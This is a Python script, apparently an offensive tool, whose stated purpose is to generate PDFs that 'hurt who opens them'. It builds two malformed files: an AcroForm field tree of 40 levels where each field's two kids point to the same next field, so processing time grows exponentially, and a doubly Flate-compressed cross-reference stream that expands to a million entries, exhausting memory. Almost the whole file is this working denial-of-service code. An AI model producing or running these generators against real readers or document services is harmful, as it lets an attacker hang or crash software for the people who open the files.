"""PDFs that hurt who opens them, made from nothing."""

import zlib

LEVELS = 40


def entwined_fields(levels: int = LEVELS) -> bytes:
    """1.6 KB at eighteen levels: two kids of each form field point to the same next one, so that each level doubles the walk."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[4 0 R]/SigFlags 3>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    ]
    objects.append(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>")
    objects += [b"<</T(a)/Kids[%d 0 R %d 0 R]>>" % (number + 1, number + 1) for number in range(4, 4 + levels)]
    return _file([*objects, b"<</T(z)/FT/Sig>>"])


def swelling_table(entries: int = 1_000_000) -> bytes:
    """A cross-reference stream of two kilobytes that unpacks to as many entries, each of which is kept as an object."""
    rows = zlib.compress(zlib.compress(b"\x01" * entries, 9), 9)
    head = b"<</Type/XRef/W[1 0 0]/Size %d/Root 1 0 R/Filter[/FlateDecode/FlateDecode]" % entries
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n"
    stream = head + b"/Length %d>>stream\n" % len(rows) + rows + b"\nendstream"
    return body + b"2 0 obj" + stream + b" endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _file(objects: list[bytes]) -> bytes:
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    made += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(made)
